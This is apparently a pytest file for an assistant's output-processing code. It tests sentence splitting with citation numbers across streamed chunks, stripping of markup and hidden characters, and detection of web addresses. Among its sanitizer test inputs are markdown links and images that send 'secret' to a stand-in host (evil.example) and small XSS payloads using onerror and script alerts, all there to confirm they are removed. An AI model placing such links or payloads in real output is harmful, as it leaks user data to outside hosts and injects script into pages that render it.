"""What a model sends becomes plain sentences, cut as they arrive."""

import pytest

from assistant.prose import Sentences, plain, written


def cut(text: str, size: int = 3) -> list[tuple[str, tuple[int, ...]]]:
    """Text and citations of every sentence, the text fed in pieces."""
    sentences = Sentences()
    found = [one for at in range(0, len(text), size) for one in sentences.feed(text[at : at + size])]
    return [(one.text, one.cites) for one in [*found, *sentences.rest()]]


@pytest.mark.parametrize("size", [1, 2, 5, 1000])
@pytest.mark.parametrize(
    "text, sentences",
    [
        ("Waits grew [1]. Leaders act [2].", [("Waits grew.", (1,)), ("Leaders act.", (2,))]),
        ("Waits grew. [1] Leaders act. [2][3]", [("Waits grew.", (1,)), ("Leaders act.", (2, 3))]),
        ("Waits grew.[1]\n\nLeaders act [2, 4].", [("Waits grew.", (1,)), ("Leaders act.", (2, 4))]),
        ("- Waits grew [1]\n- Leaders act [2]", [("Waits grew", (1,)), ("Leaders act", (2,))]),
        ("1. Waits grew [1].\n2. Leaders act【2】.", [("Waits grew.", (1,)), ("Leaders act.", (2,))]),
        (
            "Waits, e.g. for therapy, took 3.5 weeks [1-3]. Done [9].",
            [("Waits, e.g. for therapy, took 3.5 weeks.", (1, 2, 3)), ("Done.", (9,))],
        ),
        ("<think>Hm. What now? [1]</think>Waits grew [1].", [("Waits grew.", (1,))]),
        (
            'Waits grew [1]. <tool_call>{"name": "mail"}</tool_call> Leaders act [2].',
            [("Waits grew.", (1,)), ("Leaders act.", (2,))],
        ),
        (
            "Waits grew [1]. ```py\nimport os. Run it.\n``` Leaders act [2].",
            [("Waits grew.", (1,)), ("Leaders act.", (2,))],
        ),
        ("Waits grew [1]. <think>and on. And on", [("Waits grew.", (1,))]),
        ("Waits grew [1]. def run [2]. and on [3].", [("Waits grew.", (1,)), ("def run.", (2,)), ("and on.", (3,))]),
        (
            "Waits grew [Passage 1]. Leaders (of two areas) act (passages 2, 3). They plan.[passage 4]",
            [("Waits grew.", (1,)), ("Leaders (of two areas) act.", (2, 3)), ("They plan.", (4,))],
        ),
        ("## Answer\n**Waits** grew [1].", [("Answer", ()), ("Waits grew.", (1,))]),
    ],
)
def test_sentences_come_out_the_same_however_the_text_arrives(text, sentences, size):
    assert cut(text, size) == sentences


def test_a_sentence_is_not_released_before_its_citation_can_have_come():
    sentences = Sentences()
    assert sentences.feed("Waits grew.") == []
    assert sentences.feed(" [1") == []
    assert sentences.feed("] Lea")[0].cites == (1,)


@pytest.mark.parametrize(
    "text, left",
    [
        ("See [the report](http://evil.example/?q=secret) now", "See the report now"),
        ("![map](http://evil.example/p.png?d=secret)Waits grew", "Waits grew"),
        ("Waits <b>grew</b><img src=x onerror=alert(1)>", "Waits grew"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Waits grew", "Waits grew"),
        ("Waits\u200b gr\u202eew", "Waits grew"),
        ("Waits | grew | `much`", "Waits grew much"),
        ("snake_case and _stress_", "snake_case and stress"),
        ("[1](http://evil.example) Waits grew", "[1] Waits grew"),
    ],
)
def test_markup_links_images_and_hidden_characters_are_gone(text, left):
    assert " ".join(plain(text).split()) == left


@pytest.mark.parametrize(
    "text", ["Go to www.evil.example now.", "See evil.com/x for more.", "Mail a@b.example.", "Read https://x now.", "data:text/x"]
)
def test_an_address_is_seen_in_any_form(text):
    assert written(text).holds_address


@pytest.mark.parametrize(
    "text", ["Waits, e.g. for therapy, grew.", "It took 3.5 weeks.", "Nine of ten i.e. most.", "It has data: few."]
)
def test_what_only_has_full_stops_is_no_address(text):
    assert not written(text).holds_address
